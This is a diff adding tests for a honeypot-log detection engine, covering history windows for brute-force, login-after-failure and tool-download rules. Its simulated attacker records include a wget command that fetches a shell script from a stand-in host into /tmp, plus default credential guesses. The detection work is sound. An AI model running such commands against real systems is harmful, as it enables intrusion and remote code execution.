@@ -7,6 +7,7 @@ import type { AnomalyModel } from "../anomaly/anomalyModel.ts";
 import { detectionConfigSchema, type DetectionConfig } from "../config/detectorConfig.ts";
 import { ingestFormats } from "../ingest/formats.ts";
 import { ingestBatch } from "../ingest/ingestBatch.ts";
+import { allRules } from "../rules/allRules.ts";
 import type { DetectionRule } from "../rules/detectionRule.ts";
 import { SqliteRepository } from "../store/sqliteRepository.ts";
 import { severityForRisk } from "../incidents/incident.ts";
@@ -134,6 +135,138 @@ describe("history reads", () => {
     expect(await spans()).toEqual([60]);
     // The model looks at the last 300 s of a source's behaviour.
     expect(await spans(fixedModel(0.1))).toEqual([300]);
+  });
+});
+
+describe("sequence rules' history", () => {
+  /** A pass's reads: each window's span before the oldest trigger of its source, in seconds. */
+  async function readsBefore(records: unknown[][]): Promise<number[]> {
+    const repository = new SqliteRepository(":memory:");
+    await repository.migrate();
+    const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert" });
+    const asked: number[] = [];
+    for (const batch of records) {
+      const r = await ingestBatch({ repository }, ingestFormats.cowrie!, batch.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
+      if (!r.ok) throw new Error(JSON.stringify(r.issues));
+      asked.length = 0;
+      await repository.detectQueued(100, (events, tx) => engine.detectIn({
+        ...tx,
+        eventsForSources: (windows) => {
+          const oldest = Math.min(...events.map((e) => e.time));
+          asked.push(...windows.map((w) => (oldest - w.from) / 1000));
+          return tx.eventsForSources(windows);
+        },
+      }, events));
+    }
+    await repository.close();
+    return asked;
+  }
+
+  it("reads failures' history as far as the windows of brute force and spraying, and the login rule's only around a success", async () => {
+    // Failed logins alone: the spraying rule's 300 s, not the 600 s a login after failures would need.
+    expect(await readsBefore([failuresAt([0, 700])])).toEqual([300]);
+    // A success: from the events since it, then the 600 s before it.
+    expect(await readsBefore([failuresAt([0]), [cowrie.loginSuccess(bot, 700, "root", "123456")]])).toEqual([0, 600]);
+    // A failure less than 600 s before a success already stored: the 600 s before that success (from 100 s).
+    expect(await readsBefore([[cowrie.loginSuccess(bot, 700, "root", "123456")], failuresAt([650])])).toEqual([300, 550]);
+    // Commands: nothing before them unless one fetches a tool with no login since; then the hour before it.
+    expect(await readsBefore([[cowrie.command(bot, 0, "uname -a")]])).toEqual([0]);
+    expect(await readsBefore([[cowrie.command(bot, 0, "wget http://198.51.100.9/x.sh")]])).toEqual([0, 3600]);
+    // A login with it: the login rule's 600 s before the login; the download has its login.
+    expect(await readsBefore([[cowrie.loginSuccess(bot, 0, "root", "123456"), cowrie.command(bot, 5, "wget http://198.51.100.9/x.sh")]])).toEqual([0, 600]);
+  });
+
+  // The windows come from the SQLite store's cache of recent events, here far too small for the minutes between a
+  // login and what follows it: what the sequence rules need from before the cache is read from the file.
+  async function overflowed() {
+    const repository = new SqliteRepository(":memory:", { events: 50, linkedEvidenceIds: 1000 });
+    await repository.migrate();
+    const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert", anomalyModel: fixedModel(0.1) });
+    const send = async (records: unknown[]) => {
+      const r = await ingestBatch({ repository }, ingestFormats.cowrie!, records.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
+      if (!r.ok) throw new Error(JSON.stringify(r.issues));
+      await repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
+    };
+    /** Connects from other sources over [from, to) seconds, 10 a batch, one a second: the cache holds the last 50 or so. */
+    const others = async (from: number, to: number) => {
+      for (let t = from; t < to; t += 10) await send(Array.from({ length: 10 }, (_, i) => cowrie.connect({ srcIp: `198.51.100.${i + 1}`, session: `o${t}-${i}` }, t + i)));
+    };
+    const incidents = async () => (await repository.listIncidents("default", { sourceIp: bot.srcIp, limit: 50, offset: 0 })).items;
+    return { send, others, incidents, repository };
+  }
+
+  it("finds a tool download 9 minutes after the login it follows, the cache overflowed in between", async () => {
+    const { send, others, incidents, repository } = await overflowed();
+    await send([cowrie.loginSuccess(bot, 0, "root", "123456")]);
+    await others(10, 530);
+    await send([cowrie.command(bot, 540, "wget http://198.51.100.9/x.sh -O /tmp/x.sh")]);
+    const [incident] = (await incidents()).filter((i) => i.detectionKey === "T1105");
+    expect(incident).toMatchObject({ firstSeen: Date.parse("2024-05-14T10:00:00Z"), lastSeen: Date.parse("2024-05-14T10:09:00Z"), evidence: { counts: { "auth.success": 1, command: 1 } } });
+    await repository.close();
+  });
+
+  it("finds a login 9 minutes after failures, and a download after a login both before the cache, the cache overflowed in between", async () => {
+    const { send, others, incidents, repository } = await overflowed();
+    await send(failuresAt([0, 10, 20]));
+    await others(30, 530);
+    await send([cowrie.loginSuccess(bot, 540, "root", "123456")]);
+    expect((await incidents()).find((i) => i.detectionKey === "T1078")).toMatchObject({ firstSeen: Date.parse("2024-05-14T10:00:00Z"), evidence: { counts: { "auth.failure": 3, "auth.success": 1 } } });
+    // A download record of the first minutes, arriving late: the login it follows is before the cache too.
+    await others(550, 800);
+    await send([cowrie.download(bot, 545, "http://198.51.100.9/x.sh", "ab".repeat(32))]);
+    expect((await incidents()).find((i) => i.detectionKey === "T1105")).toMatchObject({ firstSeen: Date.parse("2024-05-14T10:09:00Z"), lastSeen: Date.parse("2024-05-14T10:09:05Z") });
+    await repository.close();
+  });
+
+  it("raises the same incidents as the rules given their whole windows, over random streams arriving out of order", async () => {
+    /** The rules with `historyFrom` taken away: the engine reads each one's whole window. */
+    const whole = allRules.map((r) => {
+      const rule: DetectionRule = { ...r };
+      delete rule.historyFrom;
+      return rule;
+    });
+    const next = (() => {
+      let x = 7;
+      return () => ((x = (Math.imul(x ^ (x >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0) / 2 ** 32);
+    })();
+    for (let round = 0; round < 12; round++) {
+      const bots = [0, 1, 2].map((i) => ({ srcIp: `203.0.113.${20 + i}`, session: `r${round}-${i}` }));
+      const records = Array.from({ length: 160 }, (_, n) => {
+        const b = bots[Math.floor(next() * bots.length)]!;
+        const t = Math.floor(next() * 60) * 75;
+        const k = next();
+        if (k < 0.5) return cowrie.loginFailed(b, t, ["root", "admin", "pi", "test", "oracle", "ubuntu"][n % 6]!, `pw${n % 3}`);
+        if (k < 0.6) return cowrie.loginSuccess(b, t, "root", "123456");
+        if (k < 0.7) return cowrie.command(b, t, "wget http://198.51.100.9/x.sh");
+        if (k < 0.75) return cowrie.download(b, t, "http://198.51.100.9/y.sh", "cd".repeat(32));
+        if (k < 0.85) return cowrie.command(b, t, "uname -a");
+        return cowrie.connect(b, t);
+      });
+      const batches: unknown[][] = [];
+      for (let i = 0; i < records.length;) {
+        const n = 1 + Math.floor(next() * 25);
+        batches.push(records.slice(i, i + n));
+        i += n;
+      }
+      const outcome = async (rules: DetectionRule[]) => {
+        const repository = new SqliteRepository(":memory:", { events: 20, linkedEvidenceIds: 50 });
+        await repository.migrate();
+        const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert", rules, anomalyModel: fixedModel(0.1) });
+        for (const batch of batches) {
+          const r = await ingestBatch({ repository }, ingestFormats.cowrie!, batch.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
+          if (!r.ok) throw new Error(JSON.stringify(r.issues));
+          await repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
+        }
+        const { items } = await repository.listIncidents("default", { limit: 500, offset: 0 });
+        const out = await Promise.all(items.map(async (i) => ({ key: i.detectionKey, sourceIp: i.sourceIp, firstSeen: i.firstSeen, lastSeen: i.lastSeen, risk: i.riskScore, severity: i.severity,
+          summary: i.summary, rules: i.detectedBy.rules, evidence: (await repository.getIncident("default", i.id))!.events.map((e) => e.id).sort() })));
+        await repository.close();
+        return out.sort((a, b) => `${a.sourceIp} ${a.key} ${a.firstSeen}`.localeCompare(`${b.sourceIp} ${b.key} ${b.firstSeen}`));
+      };
+      const expected = await outcome(whole);
+      expect({ round, incidents: await outcome(allRules) }).toEqual({ round, incidents: expected });
+      expect(expected.some((i) => i.key === "T1105") && expected.some((i) => i.key === "T1078")).toBe(true);
+    }
   });
 });
 
